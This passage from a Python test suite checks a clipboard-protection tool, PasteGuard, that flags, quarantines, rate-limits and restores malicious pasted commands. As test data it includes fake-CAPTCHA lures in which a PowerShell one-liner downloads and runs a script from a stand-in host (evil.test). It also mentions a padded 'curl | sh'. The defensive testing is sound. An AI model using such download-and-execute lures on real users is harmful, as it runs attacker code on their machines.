    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    event = store.events[0]
    assert event.details["writes"] == 250 and event.details["versions"] == 250
    assert "put on the clipboard 250 times within 10 s (250 different versions" in event.summary
    kept = event.details["version_texts"]
    assert len(kept) == 8 and all(k["whole"] for k in kept)  # short: nothing was cut
    assert "ID: 7000" in kept[0]["text"] and "ID: 7249" in kept[-1]["text"]
    assert kept[-1]["sha256"] == digest(lure.format(7249)) and "ID: 7001" in kept[1]["text"]
    assert "hxxps://evil[.]test" in kept[-1]["text"]  # defanged as any event's text
    # "Put it back" gives the last one written, what the person last copied (audit20 left it:
    # it gave the first), and the event says so
    assert store.quarantine_items[1] == lure.format(7249)
    assert event.summary.endswith('"Put it back" gives the last one written.')
    assert [e.details.get("writes") for e in store.events[1:]] == [None, None]


def test_put_it_back_during_a_burst_gives_the_last_version_written(engine: Engine) -> None:
    """The person presses "Put it back" while the page still writes versions of its lure: the
    warning shows (and would put back) the last one, the one they last copied, and the event's
    quarantine holds it too; with the log unable to take that now, it comes from memory."""
    clock = FakeClock()
    service, store, ui = make(engine, clock=clock)
    lure = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex" # I am not a robot - ID: {}'
    for i in range(3):
        copy(service, lure.format(i))
        clock.advance(0.04)
    service.request_restore(None)  # the tray's "Put back"
    service.process_pending(clock.now)
    assert service.text_of(ui.warnings[-1].digest) == lure.format(2)
    assert store.quarantine_items == {1: lure.format(2)}
    copy(service, lure.format(3))
    store.refuse = 1  # the log cannot take the update now
    service.request_restore(1)  # the notice's button
    service.process_pending(clock.now)
    assert service.text_of(ui.warnings[-1].digest) == lure.format(3)
    assert store.quarantine_items == {1: lure.format(2)}  # brought up to date at the next try
    copy(service, lure.format(0))  # the first again: the quarantine gets the first back
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    assert store.quarantine_items == {1: lure.format(0)}
    assert store.events[0].details["writes"] == 5


def test_a_bursts_long_versions_between_the_first_and_the_last_are_cut(engine: Engine) -> None:
    clock = FakeClock()
    service, store, _ui = make(engine, clock=clock)
    pad = "#" + "x" * 300
    for i in range(4):
        copy(service, f"{MALICIOUS} {pad} ID: {i}")
        clock.advance(0.04)
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    kept = store.events[0].details["version_texts"]
    assert [k["whole"] for k in kept] == [True, False, False, True]
    assert len(kept[1]["text"]) < 260 and kept[-1]["text"].endswith("ID: 3")


def test_the_same_lure_written_again_and_again_says_one_text(engine: Engine) -> None:
    clock = FakeClock()
    service, store, _ui = make(engine, clock=clock)
    for _ in range(3):
        copy(service, MALICIOUS)
        clock.advance(0.04)
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    (event,) = store.events
    assert "versions" not in event.details and "The same text was put" in event.summary


def test_block_notices_are_rate_limited_to_the_newest(engine: Engine) -> None:
    clock = FakeClock()
    service, _store, ui = make(engine, clock=clock)
    lures = [f'powershell -w h -c "iwr https://evil.test/{i}.ps1 | iex"' for i in range(4)]
    for lure in lures:
        copy(service, lure)
        clock.advance(1.0)
        service.process_pending(clock.now)
    assert [n[2] for n in ui.notes] == [1]  # the first at once; the rest wait
    clock.advance(NOTICE_GAP)
    service.process_pending(clock.now)
    assert [n[2] for n in ui.notes] == [1, 4]  # the newest, with its own "Put it back"
    assert ui.notes[-1][1] == store_summary(service, 4)


def store_summary(service: GuardService, event_id: int) -> str:
    event = service.store.get(event_id)
    assert event is not None
    return event.summary


def test_on_x11_a_suspicious_text_too_large_to_hold_is_taken_off_the_clipboard(
    engine: Engine,
) -> None:
    """Seen under Xvfb: a `curl | sh` padded past the holder's 256 KiB was flagged but not held,
    so Ctrl+Shift+V put it into xterm, and the warning said "This system does not let
    PasteGuard stop the paste". In block mode a page's such text is now neutralised
    (restorable) instead; in warn mode the clipboard is never changed."""
    padded = SUSPICIOUS + "\n# " + "x" * (256 * 1024) + "\n"
    holder = FakeHolder()
    service, store, ui = make(engine, target=PasteTarget.TERMINAL, can_suppress=False,
                              holder=holder)  # fmt: skip
    copy(service, padded)
    # flagged for a terminal, not malicious wherever it goes: no reason of its own to neutralise
    assert service.current is not None and service.current.unaimed.level < Level.MALICIOUS
    assert holder.held == [NEUTRAL_LINE] and service.current.neutralized
    assert store.kinds() == ["clipboard_neutralized"] and store.quarantine_items == {1: padded}
    assert service.on_key(KeyEvent("v", True, frozenset({"ctrl", "shift"}), 0.0)) is False
    copy(service, SUSPICIOUS)  # one the holder can serve: held, as before
    assert holder.held[-1] == SUSPICIOUS and "clipboard_flagged" in store.kinds()
    # no page wrote it (a build log copied from a terminal): left whole for editors, as
    # tests/ui/test_guard_desktop.py's 300 KiB log
    copy(service, padded, Provenance())
    assert holder.held[-1] == SUSPICIOUS and store.kinds()[-1] == "clipboard_flagged"
    assert service.current is not None and not service.current.neutralized

    holder = FakeHolder()
    service, store, ui = make(engine, mode="warn", target=PasteTarget.TERMINAL,
                              can_suppress=False, holder=holder)  # fmt: skip
    copy(service, padded)
    assert holder.held == [] and ui.replaced == [] and store.kinds() == ["clipboard_flagged"]


def test_a_bursts_final_count_waits_for_a_log_that_cannot_take_it(
    engine: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    clock = FakeClock()
    service, store, _ui = make(engine, clock=clock)
    for _ in range(3):
        copy(service, MALICIOUS)
        clock.advance(0.04)
    store.refuse = 2  # the disk is full when the writes stop
    for _ in range(3):
        clock.advance(BURST_GAP)
        service.process_pending(clock.now)
    (event,) = store.events
    assert store.amends == 1 and event.details["writes"] == 3 and event.details["burst_ended"]
    said = [r for r in caplog.records if "could not be counted" in r.getMessage()]
    assert len(said) == 1  # tried every round, said once
    clock.advance(60)
    service.process_pending(clock.now)
    assert store.amends == 1  # said once


def test_a_text_blocked_while_the_log_cannot_take_its_event_can_still_be_put_back(
    engine: Engine,
) -> None:
    """audit19 left it: with the event log unwritable (a newer version's file, a full disk) the
    event waits in memory with its quarantined original, and the notice had no "Put it back"
    (no event id) and the tray's "Put back" found nothing or an older text. Now the guard keeps
    the text it blocked and puts it back from memory, through the same warning."""
    service, store, ui = make(engine)
    store.unwritable = True
    copy(service, MALICIOUS)
    assert store.events == [] and service.restorable == UNWRITTEN
    ((_title, _message, restore_id),) = ui.notes
    assert restore_id == UNWRITTEN  # the notice's button is there
    copy(service, "ordinary text")  # the person copies something else meanwhile
    service.request_restore(None)  # the tray's "Put back", or the notice's button (UNWRITTEN)
    service.process_pending()
    (warning,) = ui.warnings
    assert warning.restore_event == UNWRITTEN and warning.verdict.level is Level.MALICIOUS
    assert service.text_of(warning.digest) == MALICIOUS
    assert service.let_through(warning.digest)
    service.restored(UNWRITTEN)
    assert service.restorable is None
    copy(service, MALICIOUS + " ")  # blocked again while the log still cannot take it
    service.forgotten(None)  # `forget --all`: nothing of it stays to be put back
    service.request_restore(UNWRITTEN)
    service.process_pending()
    assert len(ui.warnings) == 1 and ui.notes[-1][1].startswith("Nothing to restore")
    store.unwritable = False
    service.record(Event(kind="restored", details={"event_id": UNWRITTEN}))
    service.process_pending()
    assert store.events[-1].details["event_id"] is None  # no id of its own yet: not -1


def test_a_log_that_cannot_be_read_is_said_in_a_line_not_a_traceback(
    engine: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    """audit19 saw "reading the quarantine failed" with a traceback at every start of a guard
    whose log a newer version wrote; and a restore then failed in the worker, leaving
    `pasteguard restore` waiting and told the warning showed the text."""
    from app.storage.faults import StoreUnavailable

    service, store, ui = make(engine)

    def unreadable(event_id: int | None = None) -> QuarantineItem | None:
        raise StoreUnavailable("a newer PasteGuard wrote it")

    store.quarantined = unreadable  # type: ignore[method-assign]
    worker = threading.Thread(target=service.run_worker, daemon=True)
    worker.start()
    answers: list[bool] = []
    try:
        service.request_restore(7, answers.append)
        deadline = time.monotonic() + 5
        while not answers and time.monotonic() < deadline:
            time.sleep(0.01)
    finally:
        service.stop_worker()
        worker.join(5)
    assert answers == [False]
    said = "The event log cannot be read now: a newer PasteGuard wrote it"
    assert ui.notes == [("PasteGuard", said, None)]
    assert not [r for r in caplog.records if r.exc_info]
    assert any("cannot be put back now" in r.getMessage() for r in caplog.records)


def test_a_burst_whose_event_was_forgotten_counts_into_a_new_event(
    engine: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    """audit19 left it: the page goes on writing after `pasteguard forget` deleted the burst's
    event; its writes were counted into nothing for up to 10 minutes ("could not be counted"
    in the log). Now the next write is an event of its own."""
    clock = FakeClock()
    service, store, _ui = make(engine, clock=clock)
    for _ in range(3):
        copy(service, MALICIOUS)
        clock.advance(0.04)
    store.events.clear()  # the guard's store deleted it (app/guard/commands.py forget)
    service.forgotten([1])
    assert service.restorable is None
    for _ in range(3):
        copy(service, MALICIOUS)
        clock.advance(0.04)
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    (event,) = store.events
    assert event.details["writes"] == 3
    assert not [r for r in caplog.records if "could not be counted" in r.getMessage()]
